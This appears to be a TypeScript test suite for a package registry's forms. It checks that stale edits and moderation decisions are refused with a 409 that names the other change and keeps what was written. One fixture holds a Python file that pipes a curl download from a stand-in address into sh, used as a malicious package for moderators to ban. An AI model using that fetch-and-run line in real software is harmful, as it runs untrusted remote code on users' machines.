import assert from 'node:assert/strict';
import { after, test } from 'node:test';
import { makePublisher, publishActive, publishFiles, uniqueId } from '../support/build.ts';
import { enqueueJob } from '../support/enqueue-job.ts';
import { makeWebhook } from '../support/make-webhook.ts';
import { startServer } from '../support/start-server.ts';
import { suite } from '../support/variants.ts';
import { Visitor } from '../support/visitor.ts';
import { openForm } from '../support/open-form.ts';

const shell = { 'run.py': "import os\n\nos.system('curl http://203.0.113.9/x | sh')\n" };

suite('what changed while a form was open', async () => {
  const server = await startServer({ after }, { OUTBOUND_PRIVATE: 'yes' });
  const moderator = await server.moderator();
  const desk = new Visitor(server.url, moderator.bearer);
  const open = async () => {
    const publisher = await makePublisher(server, uniqueId('ada'));
    const nodeId = uniqueId('node');
    await publishActive(server, publisher, nodeId, '1.0.0');
    const visitor = new Visitor(server.url, publisher.owner.bearer);
    const base = `/account/publishers/${publisher.id}`;
    return { publisher, nodeId, visitor, base, page: `${base}/nodes/${nodeId}` };
  };

  test('a node keeps what another member saved, and a field that both changed shows both', async () => {
    const { publisher, nodeId, visitor, base, page } = await open();
    const write = (body: object) => publisher.owner.put(`/publishers/${publisher.id}/nodes/${nodeId}`, body);
    const read = async () => (await server.anonymous.get(`/nodes/${nodeId}`)).json;
    await write({ description: 'First.\nSecond.', tags: ['one'] });
    const form = await openForm(visitor, page, 'save');
    await write({ description: 'Of the other.', tags: ['two'] });
    assert.equal((await form.send({ name: 'Mine' })).location, `${page}?done=saved`);
    const { name, description, tags } = await read();
    assert.deepEqual([name, description, tags], ['Mine', 'Of the other.', ['two']]);

    const stale = await openForm(visitor, page, 'save');
    await write({ description: 'Of the other again.', author: 'Bob' });
    const refused = await stale.send({ description: 'Of mine.', author: '' });
    assert.equal(refused.status, 409);
    assert.match(refused.html, /id="save-description"[^>]*>Of mine\.</);
    assert.match(refused.html, /id="save-description-fault">[^<]*“Of the other again\.”/);
    assert.match(refused.html, /id="save-author"[^>]*value="Bob"/);
    assert.equal((await read()).description, 'Of the other again.');
    const again = await openForm(visitor, page, 'save', refused.html);
    assert.equal((await again.send({})).status, 303);
    assert.deepEqual([(await read()).description, (await read()).author], ['Of mine.', 'Bob']);
    assert.equal((await visitor.send(page, { do: 'save', name: 'Alone' })).status, 303);
    assert.equal((await read()).description, 'Of mine.', 'what is not sent stays');
    assert.equal((await visitor.get(base)).status, 200);
  });

  test('so do a profile, the terms of a webhook, and why a version is deprecated', async () => {
    const { publisher, nodeId, visitor, base, page } = await open();
    const profile = await openForm(visitor, base, 'save');
    await publisher.owner.put(`/publishers/${publisher.id}`, { description: 'Of the other.' });
    assert.equal((await profile.send({ name: 'Mine' })).status, 303);
    const read = (await server.anonymous.get(`/publishers/${publisher.id}`)).json;
    assert.deepEqual([read.name, read.description], ['Mine', 'Of the other.']);

    const id = uniqueId('hook');
    await makeWebhook(server, publisher.owner, `/publishers/${publisher.id}/webhooks`, id);
    const hook = await openForm(visitor, `${base}/webhooks/${id}`, 'save');
    await publisher.owner.put(`/webhooks/${id}`, { events: ['node.created'] });
    assert.equal((await hook.send({ description: 'Mine' })).status, 303);
    const { description, events } = (await publisher.owner.get(`/webhooks/${id}`)).json;
    assert.deepEqual([description, events], ['Mine', ['node.created']]);

    const version = await openForm(visitor, page, 'deprecate');
    const body = { deprecated: true, deprecation_message: 'Use the other.' };
    await publisher.owner.put(`/publishers/${publisher.id}/nodes/${nodeId}/versions/1.0.0`, body);
    const refused = await version.send({ deprecation_message: 'Use mine.' });
    assert.equal(refused.status, 409, refused.html);
    assert.match(refused.html, /Use mine\.[^]*“Use the other\.”/);
  });

  test('a moderator sets the quotas, the rank and the advisory that were changed, and no others', async () => {
    const { publisher, nodeId } = await open();
    const path = `/moderate/publishers/${publisher.id}`;
    const quotas = await openForm(desk, path, 'quotas');
    await moderator.put(`/admin/publishers/${publisher.id}/quotas`, { members: 3, reason: 'Other.' });
    assert.equal((await quotas.send({ nodes: '7', reason: 'Mine.' })).status, 303);
    const usage = (await moderator.get(`/publishers/${publisher.id}/usage`)).json;
    assert.deepEqual([usage.nodes.max, usage.members.max], [7, 3]);

    const node = `/moderate/nodes/${nodeId}`;
    const rank = await openForm(desk, node, 'rank');
    await moderator.put(`/admin/nodes/${nodeId}`, { search_ranking: 4, reason: 'Other.' });
    const refused = await rank.send({ search_ranking: '9', reason: 'Mine.' });
    assert.match(refused.html, /id="rank-search_ranking-fault">[^<]*“4”/);
    await desk.send(node, { do: 'ban', reason: 'It mines.', advisory: 'It mines.' });
    const advisory = await openForm(desk, node, 'advise');
    await desk.send(node, { do: 'advise', reason: 'More.', advisory: 'It sends keys.' });
    const older = await advisory.send({ advisory: 'It mines coins.', reason: 'More.' });
    assert.match(older.html, /id="advise-advisory-fault">[^<]*“It sends keys\.”/);
  });

  test('a decision about a version, node, publisher or user is refused once another was made, which it names', async () => {
    const { publisher, nodeId } = await open();
    await publishFiles(server, publisher, nodeId, '1.1.0', shell);
    const page = `/moderate/versions/${nodeId}/1.1.0`;
    const stale = await openForm(desk, page, 'decide');
    const decide = { do: 'decide', status: 'NodeVersionStatusBanned', reason: 'It steals keys.' };
    assert.equal((await desk.send(page, decide)).status, 303);
    const refused = await stale.send({ status: 'NodeVersionStatusActive', reason: 'Looks fine.' });
    assert.equal(refused.status, 409, refused.html);
    assert.match(refused.html, /role="alert"[^<]*>[^<]*Banned[^<]*It steals keys\.[^]*Looks fine\./);
    const { status } = (await moderator.get(`/nodes/${nodeId}/versions/1.1.0`)).json;
    assert.equal(status, 'NodeVersionStatusBanned');
    const again = await openForm(desk, page, 'decide', refused.html);
    const lifted = await again.send({ status: 'NodeVersionStatusActive', reason: 'Looks fine.' });
    assert.equal(lifted.status, 303, 'a moderator who has seen the decision may change it');

    const { email } = (await publisher.owner.get('/users')).json;
    for (const [path, extra] of [
      [`/moderate/nodes/${nodeId}`, {}],
      [`/moderate/publishers/${publisher.id}`, {}],
      [`/moderate/users?q=${email}`, { confirmation: email }],
    ] as const) {
      const send = (action: string, reason: string) => desk.send(path, { do: action, reason, ...extra });
      await send('ban', 'Spam.');
      const lift = await openForm(desk, path, 'lift');
      await send('lift', 'Sorry.');
      await send('ban', 'It steals keys.');
      const kept = await lift.send({ reason: 'It was only spam.' });
      assert.equal(kept.status, 409, path);
      assert.match(kept.html, /role="alert"[^<]*>[^<]*Banned[^<]*It steals keys\./, path);
      assert.equal((await send('lift', 'Sorry.')).status, 303, path);
    }
  });

  test('a report is not answered twice, and a job that was begun anew is not dropped', async () => {
    const { nodeId } = await open();
    const reporter = await server.user(uniqueId('reporter'));
    await reporter.post(`/nodes/${nodeId}/reports`, { reason: 'broken', text: 'It fails.' });
    const form = await openForm(desk, '/moderate/reports', 'answer');
    const first = { do: 'answer', which: form.which, to: 'resolved', answer: 'We fixed it.' };
    assert.equal((await desk.send('/moderate/reports', first)).status, 303);
    const second = await form.send({ to: 'dismissed', answer: 'It works for us.' });
    assert.equal(second.status, 409);
    assert.match(second.html, /Resolved[^<]*We fixed it\.[^]*It works for us\./);

    const id = await enqueueJob(server);
    const job = await openForm(desk, '/moderate/jobs', 'decide');
    await desk.send('/moderate/jobs', { do: 'decide', which: id, to: 'retry', reason: 'Again.' });
    const dropped = await job.send({ to: 'drop', reason: 'Not needed.' });
    assert.equal(dropped.status, 409);
    assert.match(dropped.html, /job\.retried[^<]*Again\./);
  });

  test('a form whose matter somebody else dealt with says so, and gives back what was written', async () => {
    const { publisher, nodeId, visitor, base, page } = await open();
    const refusedOf = async (path: string, fields: Record<string, string>) => {
      const { status, html } = await visitor.send(path, fields);
      assert.ok([404, 409].includes(status), `${path}: ${status}`);
      const [, said = ''] = /role="alert"[^>]*>([^<]+)/.exec(html) ?? [];
      assert.match(said, /\w+ \w+/, path);
      assert.equal(html.split('role="alert"').length, 2, path);
      return html;
    };
    const { json } = await publisher.owner.post(`/publishers/${publisher.id}/tokens`, {
      name: 'gone',
    });
    await publisher.owner.delete(`/publishers/${publisher.id}/tokens/${json.id}`);
    await refusedOf(`${base}/tokens`, { do: 'revoke', which: json.id });
    await refusedOf(`${base}/members`, { do: 'revoke', which: 'gone' });
    await refusedOf('/account/security', { do: 'end-session', which: 'gone' });
    await refusedOf('/account/invitations', { do: 'decline', which: 'gone' });
    await publisher.owner.delete(`/publishers/${publisher.id}/nodes/${nodeId}/versions/1.0.0`);
    const message = { deprecation_message: 'It draws <wrong> lines.' };
    const deleted = await refusedOf(page, { do: 'deprecate', which: '1.0.0', ...message });
    assert.match(deleted, /What you wrote[^]*It draws &lt;wrong> lines\./);
    await publisher.owner.delete(`/publishers/${publisher.id}/nodes/${nodeId}`);
    const saved = await refusedOf(page, { do: 'save', description: 'A long description.' });
    assert.match(saved, /A long description\./);
  });
});
